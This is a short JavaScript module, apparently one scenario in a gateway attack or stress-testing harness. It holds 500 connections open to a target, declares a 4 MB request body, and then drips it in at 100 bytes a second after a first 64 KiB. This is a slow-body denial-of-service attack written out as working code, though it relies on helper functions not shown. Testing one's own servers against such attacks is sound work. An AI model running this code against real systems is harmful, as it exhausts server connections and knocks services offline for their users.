// Bodies that are sent a few bytes at a time.
import { headOf, hoardSockets } from '../sockets.mjs';

export const about = '500 one-shots whose bodies arrive at 100 bytes a second, after a first 64 KiB.';

/** @param {import('../attack.mjs').Target} target */
export const run = (target) =>
  hoardSockets(
    target,
    500,
    (socket) => {
      socket.write(headOf(target.gateway, 4_000_000) + ' '.repeat(65_536));
      const drip = setInterval(() => socket.write(' '.repeat(100)), 1_000);
      socket.on('close', () => clearInterval(drip));
    },
    { eachMs: 2 },
  );
